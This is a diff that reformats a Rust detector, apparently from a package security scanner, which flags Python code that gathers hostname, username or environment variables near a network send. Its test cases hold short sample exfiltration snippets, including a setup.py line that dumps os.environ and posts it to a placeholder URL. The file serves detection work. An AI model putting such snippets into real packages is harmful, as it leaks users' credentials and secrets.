@@ -54,10 +54,7 @@ impl Detector for SystemInfo {
         ]
     }
     fn scan_text(&self, file: &TextFile<'_>, hits: &mut Hits) {
-        if !file.is_python
-            || file.role == FileRole::TestOrDocs
-            || pysrc::looks_like_test_path(file.path)
-        {
+        if !file.is_python || file.role == FileRole::TestOrDocs || pysrc::looks_like_test_path(file.path) {
             return;
         }
         let src = Source::new(file);
@@ -72,11 +69,7 @@ impl Detector for SystemInfo {
         if net.is_empty() {
             return;
         }
-        let sev = Some(if file.role == FileRole::InstallTime {
-            Severity::Critical
-        } else {
-            Severity::Medium
-        });
+        let sev = Some(if file.role == FileRole::InstallTime { Severity::Critical } else { Severity::Medium });
         let mut n = 0;
         for m in COLLECT.find_iter(file.text) {
             if n >= MAX_HITS_PER_FILE {
@@ -86,10 +79,8 @@ impl Detector for SystemInfo {
                 continue;
             }
             let l = line_of(m.start());
-            let Some(&(_, sink)) = net
-                .iter()
-                .min_by_key(|(sl, _)| sl.abs_diff(l))
-                .filter(|(sl, _)| sl.abs_diff(l) <= WINDOW_LINES)
+            let Some(&(_, sink)) =
+                net.iter().min_by_key(|(sl, _)| sl.abs_diff(l)).filter(|(sl, _)| sl.abs_diff(l) <= WINDOW_LINES)
             else {
                 continue;
             };
@@ -101,13 +92,7 @@ impl Detector for SystemInfo {
                 raw.trim_end_matches('(').trim_end().to_string()
             };
             let ind = format!("{ind} + {sink}");
-            hits.push(
-                &META,
-                Hit {
-                    severity: sev,
-                    evidence: pysrc::evidence(file, m.start(), ind),
-                },
-            );
+            hits.push(&META, Hit { severity: sev, evidence: pysrc::evidence(file, m.start(), ind) });
         }
     }
 }
@@ -122,12 +107,8 @@ mod tests {
 
     const BEACON: &str = "import os, socket, getpass, requests\ninfo = {'h': socket.gethostname(), 'u': getpass.getuser()}\nrequests.post(U, json=info)\n";
 
-    static FAR: LazyLock<String> = LazyLock::new(|| {
-        format!(
-            "h = socket.gethostname()\n{}requests.post(U)\n",
-            "x = 1\n".repeat(40)
-        )
-    });
+    static FAR: LazyLock<String> =
+        LazyLock::new(|| format!("h = socket.gethostname()\n{}requests.post(U)\n", "x = 1\n".repeat(40)));
 
     #[test]
     fn cases() {
@@ -136,11 +117,29 @@ mod tests {
             META.id,
             &[
                 ("beacon", "pkg/a.py", Runtime, BEACON, Some((2, "socket.gethostname + requests.post", Medium))),
-                ("setup.py env dump", "setup.py", InstallTime, "data = json.dumps(dict(os.environ))\nurllib.request.urlopen(urllib.request.Request(U, data))\n", Some((1, "os.environ dump + urllib.request.urlopen", Critical))),
-                ("hostname without network", "pkg/log.py", Runtime, "HOST = socket.gethostname()\nlog.info(HOST)\n", None),
+                (
+                    "setup.py env dump",
+                    "setup.py",
+                    InstallTime,
+                    "data = json.dumps(dict(os.environ))\nurllib.request.urlopen(urllib.request.Request(U, data))\n",
+                    Some((1, "os.environ dump + urllib.request.urlopen", Critical)),
+                ),
+                (
+                    "hostname without network",
+                    "pkg/log.py",
+                    Runtime,
+                    "HOST = socket.gethostname()\nlog.info(HOST)\n",
+                    None,
+                ),
                 ("env lookup of one key", "pkg/a.py", Runtime, "t = os.environ.get('TOKEN')\nrequests.post(U)\n", None),
                 ("tests", "pkg/tests/test_a.py", Runtime, BEACON, None),
-                ("smtp-like: hostname and a connect only", "pkg/mail.py", Runtime, "name = socket.getfqdn()\nself.sock = socket.create_connection((h, p))\n", None),
+                (
+                    "smtp-like: hostname and a connect only",
+                    "pkg/mail.py",
+                    Runtime,
+                    "name = socket.getfqdn()\nself.sock = socket.create_connection((h, p))\n",
+                    None,
+                ),
                 ("collection far from the send", "pkg/far.py", Runtime, FAR.as_str(), None),
             ],
         );
